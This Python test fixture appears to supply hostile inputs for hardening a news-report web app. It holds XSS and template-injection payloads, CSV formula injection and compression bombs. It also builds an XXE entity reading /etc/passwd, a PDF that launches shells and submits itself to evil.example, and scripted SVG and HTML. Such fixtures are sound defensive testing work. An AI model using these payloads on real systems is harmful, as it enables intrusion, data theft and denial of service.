"""Hostile material: what reports, names, addresses and files may carry. Nothing in it may ever run."""

from __future__ import annotations

import gzip
import io
import zipfile

RUN = "window.__ran=1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}//",
    f"</script><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x:x onerror='{RUN}'//",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x",
    f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<object data=javascript:{RUN}>",
    "<embed src=https://evil.example/x>",
    f"<a href=javascript:{RUN}>press</a>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}",
    "{{ 7|add:35 }}",
    "{% include 'desk/page.html' %}",
    "{{ request.user.password }}",
    "{% load static %}",
    "${7*6}",
    "#{7*6}",
    "<%= 7*6 %>",
    "<div hx-get=/evidence/ hx-trigger=load>",
    "<div data-hx-post=/group-now/ data-hx-trigger=load>",
    f"<div hx-on:load={RUN}>",
    f"<div hx-on::after-init={RUN}>",
    f"<b hx-vals='js:{{a:{RUN}}}'>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x)</style>",
    "<style>*{display:none!important}</style>",
    "<p style=position:fixed;inset:0>over",
    "<p class='unseen told'>over",
    "<img srcset='https://evil.example/a 1x'>",
    "<form action=https://evil.example/><button>Sign in",
    "<form id=marking><input name=csrfmiddlewaretoken>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?xml version='1.0'?>",
    "<title>",
    "</title></head><body>",
    "<textarea>",
    "</textarea>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=window.__ran=1>'>",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "a\u200b\u200db",
    "W" * 600,
    "\U0001f4a3" * 50,
    "__proto__",
    "constructor.prototype",
    '=HYPERLINK("https://evil.example")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+1",
    "' OR 1=1 --",
    "%3Cscript%3E",
    "\x1b[31m",
    "\ufeff<script>",
    "´`<script>´",
]
SAID = "A spokesman said on Friday that shelling of Benghazi had killed two men. "


def zipped(name: str, data: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return made.getvalue()


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "lol">{LAUGHS}]>'
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
FILES = {
    "bomb.zip": zipped("a", bytes(20_000_000)), "nested.zip": zipped("a.zip", zipped("a", bytes(5_000_000))),
    "bomb.docx": zipped("word/document.xml", bytes(9_000_000)), "bomb.epub": zipped("mimetype", b"application/epub+zip"),
    "bomb.gz": gzip.compress(bytes(20_000_000)), "laughs.xhtml": f"{BOMB}<html><body>&l9;</body></html>".encode(),
    "outside.xhtml": f"{OUTSIDE}<html><body><p>&x;</p></body></html>".encode(),
    "deep.html": b"<html><body>" + b"<div>" * 100_000, "large.html": b"<html><body><p>" + b"x " * 10_000_000,
    "crowd.html": b"<html><body><p " + b"".join(b"a%d " % n for n in range(50_000)),
    "nul.txt": b"a\x00b", "signs.txt": b"(" * 300_000,
    "half.txt": b"\xed\xa0\x80", "polyglot.html": b"%PDF-1.4\n<html><script>window.__ran=1</script>",
}  # fmt: skip


def pdf(words: str) -> bytes:
    """A PDF with these words, that would run a script, start a program, send itself away and leave a file behind."""
    shown = f"BT /F1 9 Tf 20 700 Td ({words}) Tj ET".encode()
    script = b"<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('https://evil.example/'\\))>>"
    start = b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/C calc)>>>>"
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/A<</S/URI/URI(javascript:window.__ran=1)>>>>"
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction " + script + b"/AA<</WC " + start + b"/WS " + script + b">>"
        b"/Names<</JavaScript<</Names[(a) 6 0 R]>>/EmbeddedFiles<</Names[(../../x.exe) 7 0 R]>>>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>"
        b"/Annots[" + link + b"]/AA<</O " + start + b">>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(shown), shown),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        script,
        b"<</Type/Filespec/F(../../x.exe)/EF<</F 4 0 R>>>>",
    ]
    body = b"".join(b"%d 0 obj%s endobj\n" % (number, one) for number, one in enumerate(objects, 1))
    return (
        b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R/Size 8/Info<</Title(<script>window.__ran=1</script>)>>>>\n%%EOF"
    )


def svg(words: str) -> bytes:
    """A drawing that would run a script in every way that it can."""
    return (
        f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script><text>{words}</text>"
        f"<a href='javascript:{RUN}'><rect width='9' height='9'/></a><image href='https://evil.example/x.png'/>"
        f"<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:parent.{RUN}'/></foreignObject></svg>"
    ).encode()


def web_page(words: str) -> bytes:
    """A page that runs something by itself, and says in its words what would run elsewhere."""
    told = "".join(f"<p>{one.replace('&', '&amp;').replace('<', '&lt;')} {words}</p>" for one in PAYLOADS[:3])
    return (
        f"<html><head><title>&lt;script&gt;{RUN}&lt;/script&gt;</title><base href='https://evil.example/'></head>"
        f"<body onload='{RUN}'><script>{RUN}</script><article><h1>Benghazi</h1>{told}</article></body></html>"
    ).encode()
